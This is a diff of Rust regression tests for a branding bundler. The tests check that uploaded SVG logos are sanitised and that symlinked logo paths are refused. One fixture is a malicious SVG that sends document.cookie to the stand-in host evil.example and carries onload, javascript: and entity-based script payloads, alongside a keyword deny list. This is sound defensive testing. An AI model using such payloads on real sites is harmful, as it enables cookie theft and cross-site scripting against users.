@@ -488,3 +488,192 @@ fn defect_13_bundle_refuses_an_output_folder_it_did_not_write() {
     assert_eq!(o.status.code(), Some(0), "{}", output(&o));
     assert!(v.path().join("out/.seloste-bundles").is_file());
 }
+
+/// Adds `logo = "{path}"` to alpha's `[branding]`.
+fn give_alpha_logo(dir: &Path, path: &str) {
+    let file = dir.join("customers/alpha.toml");
+    let text = std::fs::read_to_string(&file).expect("read");
+    let text: String = text
+        .lines()
+        .filter(|l| !l.starts_with("logo = "))
+        .map(|l| format!("{l}\n"))
+        .collect();
+    std::fs::write(
+        &file,
+        text.replacen(
+            "[branding]\n",
+            &format!("[branding]\nlogo = \"{path}\"\n"),
+            1,
+        ),
+    )
+    .expect("write");
+}
+
+/// The bytes of `name` in the zip at `path`.
+fn zip_entry(path: &Path, name: &str) -> Vec<u8> {
+    use std::io::Read;
+    let mut zip = zip::ZipArchive::new(std::fs::File::open(path).expect("zip")).expect("a zip");
+    let mut bytes = Vec::new();
+    zip.by_name(name)
+        .expect("entry")
+        .read_to_end(&mut bytes)
+        .expect("read");
+    bytes
+}
+
+/// Defect 4: an SVG logo was published unchanged, so opened at its own URL
+/// it ran its scripts and made requests. It is published re-written.
+#[test]
+fn defect_4_svg_logo_is_published_sanitised() {
+    let v = vendor();
+    std::fs::create_dir(v.path().join("customers/logos")).expect("mkdir");
+    std::fs::write(
+        v.path().join("customers/logos/alpha.svg"),
+        r##"<?xml version="1.0"?>
+<!DOCTYPE svg [<!ENTITY x "<script>alert('entity')</script>">]>
+<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
+     width="160" height="48" viewBox="0 0 160 48" onload="fetch('http://evil.example/1')">
+  <script>fetch('http://evil.example/2?c=' + document.cookie)</script>
+  <rect width="48" height="48" rx="6" fill="#005a9c" onmouseover="alert(1)"/>
+  <a xlink:href="javascript:alert(2)"><path d="M10 36 L24 12 L38 36 Z" fill="#fff"/></a>
+  <foreignObject width="160" height="48"><div xmlns="http://www.w3.org/1999/xhtml">&x;<img src="http://evil.example/3"/></div></foreignObject>
+  <image href="http://evil.example/4.png" width="10" height="10"/>
+  <use href="http://evil.example/5.svg#icon"/>
+  <style>rect { fill: url(http://evil.example/6.svg#p) }</style>
+</svg>
+"##,
+    )
+    .expect("write");
+    give_alpha_logo(v.path(), "logos/alpha.svg");
+    let o = bundle(v.path(), &[]);
+    assert_eq!(o.status.code(), Some(0), "{}", output(&o));
+    let published = std::fs::read(v.path().join("out/alpha/logo.svg")).expect("logo published");
+    assert_eq!(
+        zip_entry(&v.path().join("out/alpha.zip"), "alpha/logo.svg"),
+        published,
+        "the zip holds the same re-written logo"
+    );
+    let svg = String::from_utf8(published).expect("utf-8");
+    let without_namespaces = svg
+        .replace("xmlns=\"http://www.w3.org/2000/svg\"", "")
+        .replace("xmlns:xlink=\"http://www.w3.org/1999/xlink\"", "");
+    for bad in [
+        "script",
+        "onload",
+        "onmouseover",
+        "foreignObject",
+        "javascript:",
+        "http://",
+        "evil",
+        "<!ENTITY",
+        "alert",
+        "fetch",
+    ] {
+        assert!(
+            !without_namespaces.contains(bad),
+            "`{bad}` in the published logo:\n{svg}"
+        );
+    }
+    assert!(
+        svg.starts_with("<svg ") && svg.matches("<path").count() >= 2,
+        "the shapes are kept:\n{svg}"
+    );
+    let page =
+        std::fs::read_to_string(v.path().join("out/alpha/fi/pupil-accounts.html")).expect("page");
+    assert!(page.contains("src=\"../logo.svg\""), "logo not shown");
+    // Twice the same input, twice the same bytes.
+    std::fs::remove_dir_all(v.path().join("out")).expect("clean");
+    assert_eq!(bundle(v.path(), &[]).status.code(), Some(0));
+    assert_eq!(
+        std::fs::read(v.path().join("out/alpha/logo.svg")).expect("logo"),
+        svg.as_bytes()
+    );
+}
+
+/// An SVG logo's text would be lost in the re-written logo: it is refused.
+#[test]
+fn an_svg_logo_with_text_is_refused() {
+    let v = vendor();
+    std::fs::write(
+        v.path().join("customers/alpha.svg"),
+        r#"<svg xmlns="http://www.w3.org/2000/svg" width="160" height="48"><rect width="48" height="48"/><text x="56" y="30">Alfa</text></svg>"#,
+    )
+    .expect("write");
+    give_alpha_logo(v.path(), "alpha.svg");
+    let o = bundle(v.path(), &[]);
+    let out = output(&o);
+    assert_eq!(o.status.code(), Some(1), "{out}");
+    assert!(out.contains("error[L007]"), "{out}");
+    assert!(out.contains("has text"), "{out}");
+    assert!(out.contains("convert the text to paths"), "{out}");
+    assert!(!v.path().join("out/alpha").exists());
+    assert!(
+        v.path().join("out/beta.zip").exists(),
+        "the others are built"
+    );
+}
+
+/// Defect 5: the logo path was checked, then opened again by path, so a
+/// link swapped in between published a file from outside the customer's
+/// folder. It is opened once without following any link: a link on the
+/// path is refused, wherever it points.
+#[cfg(unix)]
+#[test]
+fn defect_5_logo_link_is_refused_without_following_it() {
+    use std::os::unix::fs::symlink;
+    const SECRET: &[u8] = b"\x89PNG\r\n\x1a\nSECRET-OUTSIDE-THE-CUSTOMER-FOLDER";
+    const REAL: &[u8] = b"\x89PNG\r\n\x1a\nthe real logo";
+    let v = vendor();
+    let customers = v.path().join("customers");
+    std::fs::create_dir(v.path().join("private")).expect("mkdir");
+    std::fs::write(v.path().join("private/secret.png"), SECRET).expect("write");
+    std::fs::create_dir(customers.join("logos")).expect("mkdir");
+    std::fs::write(customers.join("logos/real.png"), REAL).expect("write");
+    // A link out of the folder, one that stays inside, and a linked folder.
+    symlink("../../private/secret.png", customers.join("logos/out.png")).expect("link");
+    symlink("real.png", customers.join("logos/in.png")).expect("link");
+    symlink("logos", customers.join("linked")).expect("link");
+    symlink("../private", customers.join("away")).expect("link");
+
+    for (logo, says) in [
+        (
+            "logos/out.png",
+            "is a link; give the path of the image file itself",
+        ),
+        (
+            "logos/in.png",
+            "is a link; give the path of the image file itself",
+        ),
+        ("linked/real.png", "is in `linked`, which is a link"),
+        ("away/secret.png", "is in `away`, which is a link"),
+    ] {
+        give_alpha_logo(v.path(), logo);
+        let _ = std::fs::remove_dir_all(v.path().join("out"));
+        let o = bundle(v.path(), &[]);
+        let out = output(&o);
+        assert_eq!(o.status.code(), Some(1), "{logo}: {out}");
+        assert!(out.contains("error[L007]"), "{logo}: {out}");
+        assert!(out.contains(says), "{logo}: {out}");
+        assert!(!v.path().join("out/alpha").exists(), "{logo}: {out}");
+        assert!(!v.path().join("out/alpha.zip").exists(), "{logo}: {out}");
+        for (name, bytes) in common::tree(&v.path().join("out")) {
+            assert!(
+                !bytes.windows(SECRET.len()).any(|w| w == SECRET),
+                "{logo}: out/{name} holds the file outside the folder"
+            );
+        }
+    }
+    // The file itself is published.
+    give_alpha_logo(v.path(), "logos/real.png");
+    let _ = std::fs::remove_dir_all(v.path().join("out"));
+    let o = bundle(v.path(), &[]);
+    assert_eq!(o.status.code(), Some(0), "{}", output(&o));
+    assert_eq!(
+        std::fs::read(v.path().join("out/alpha/logo.png")).expect("logo"),
+        REAL
+    );
+    assert_eq!(
+        zip_entry(&v.path().join("out/alpha.zip"), "alpha/logo.png"),
+        REAL
+    );
+}
